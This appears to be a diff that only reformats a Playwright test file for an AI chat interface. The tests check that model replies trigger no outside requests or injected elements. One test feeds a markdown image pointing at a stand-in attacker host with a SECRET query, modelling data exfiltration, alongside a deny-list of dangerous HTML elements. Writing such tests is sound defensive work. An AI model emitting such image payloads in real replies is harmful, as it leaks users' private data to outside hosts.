@@ -15,7 +15,8 @@ const app = useApp({ ai: llm.settings(['openai']) });
 function foreignRequests(page: Page) {
   const foreign: string[] = [];
   page.on('request', (request) => {
-    if (new URL(request.url()).origin !== app.server.url && request.url().startsWith('http')) foreign.push(request.url());
+    if (new URL(request.url()).origin !== app.server.url && request.url().startsWith('http'))
+      foreign.push(request.url());
   });
   return foreign;
 }
@@ -42,9 +43,17 @@ describe('what a model writes', () => {
     await thread(page).getByText('The last of them.').waitFor();
     expect(foreign).toEqual([]);
     expect(await injected(page)).toBe(false);
-    expect(await messages(page).locator('img, iframe, object, embed, script, style, form, svg[onload], [onclick], [onerror]').count()).toBe(0);
-    const addresses = await messages(page).getByRole('link').evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
-    expect(addresses.filter(([href, rel]) => !/^(https?:|mailto:)/.test(href ?? '') || rel !== 'noopener noreferrer')).toEqual([]);
+    expect(
+      await messages(page)
+        .locator('img, iframe, object, embed, script, style, form, svg[onload], [onclick], [onerror]')
+        .count(),
+    ).toBe(0);
+    const addresses = await messages(page)
+      .getByRole('link')
+      .evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
+    expect(
+      addresses.filter(([href, rel]) => !/^(https?:|mailto:)/.test(href ?? '') || rel !== 'noopener noreferrer'),
+    ).toEqual([]);
   });
 
   it('shows a remote image as a link', async () => {
@@ -52,7 +61,9 @@ describe('what a model writes', () => {
     const foreign = foreignRequests(page);
     llm.next(answersWith('![a chart](https://evil.test/?q=SECRET)'));
     await say(page, 'Show me');
-    expect(await reply(page).getByRole('link', { name: 'a chart' }).getAttribute('href')).toBe('https://evil.test/?q=SECRET');
+    expect(await reply(page).getByRole('link', { name: 'a chart' }).getAttribute('href')).toBe(
+      'https://evil.test/?q=SECRET',
+    );
     await settled(page);
     expect(foreign).toEqual([]);
   });
@@ -69,7 +80,11 @@ describe('what a model writes', () => {
 
   it('sets mathematics, code and tables within the content security policy', async () => {
     const { page } = await aChatter(app);
-    llm.next(answersWith('Costs $5 or $6.\n\n\\[\n\\vec{a} = \\frac{1}{2}\n\\]\n\n```js\nconst answer = 42;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n'));
+    llm.next(
+      answersWith(
+        'Costs $5 or $6.\n\n\\[\n\\vec{a} = \\frac{1}{2}\n\\]\n\n```js\nconst answer = 42;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
+      ),
+    );
     await say(page, 'All of it');
     await reply(page).locator('.katex .mfrac').first().waitFor();
     await reply(page).getByText('Costs $5 or $6.').waitFor();
@@ -88,9 +103,13 @@ describe('context files', () => {
     await button(page, 'Add file name').click();
     await page.getByRole('textbox', { name: 'File name' }).fill('budget.xlsx');
     await page.keyboard.press('Enter');
-    await page.locator('input[type=file]').setInputFiles({ name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('Buy flour.') });
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('Buy flour.') });
     await page.getByText('10 characters').waitFor();
-    await page.locator('input[type=file]').setInputFiles({ name: 'film.mp4', mimeType: 'video/mp4', buffer: Buffer.from([0, 1, 2, 0]) });
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'film.mp4', mimeType: 'video/mp4', buffer: Buffer.from([0, 1, 2, 0]) });
     await page.getByText('film.mp4 is not a text file.').first().waitFor();
     await box(page).fill('What is in there?');
     await page.reload();
